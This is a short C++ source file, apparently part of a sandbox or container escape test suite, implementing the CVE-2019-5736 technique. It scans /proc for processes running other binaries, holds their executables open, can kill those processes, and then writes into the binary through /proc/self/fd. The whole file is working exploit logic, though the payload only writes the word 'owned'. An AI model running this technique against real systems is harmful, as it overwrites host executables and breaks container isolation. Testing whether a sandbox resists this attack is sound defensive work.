// Waits for processes that execute another file than its own, keeps that file open by /proc/PID/exe and writes into it as
// soon as nobody executes it any more (CVE-2019-5736). WORD `kill`: ends those processes itself.
#include <dirent.h>

#include "attack.h"

ATTACK(overwrite_exe) {
  puts("ready");
  struct stat own;
  if (stat("/proc/self/exe", &own) != 0) return broken("/proc/self/exe");
  int kept[64];
  int number_kept = 0;
  for (int turn = 0; turn < 2000; ++turn) {
    DIR* const processes = opendir("/proc");
    if (processes == nullptr) return refused("/proc");
    while (const dirent* const entry = readdir(processes)) {
      const int process = atoi(entry->d_name);
      char path[64];
      struct stat other;
      snprintf(path, sizeof path, "/proc/%d/exe", process);
      if (process <= 0 || stat(path, &other) != 0 || other.st_ino == own.st_ino) continue;
      const int file = number_kept < 64 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
      if (file >= 0) kept[number_kept++] = file;
      if (count > 0) kill(process, SIGKILL);
    }
    closedir(processes);
    for (int index = 0; index < number_kept; ++index) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", kept[index]);
      const int file = open(path, O_WRONLY | O_CLOEXEC);
      if (file >= 0 && write(file, "owned", 5) == 5) return succeeded("the program is overwritten");
    }
    usleep(1000);
  }
  return refused(number_kept == 0 ? "no program was seen" : "write to the program");
}
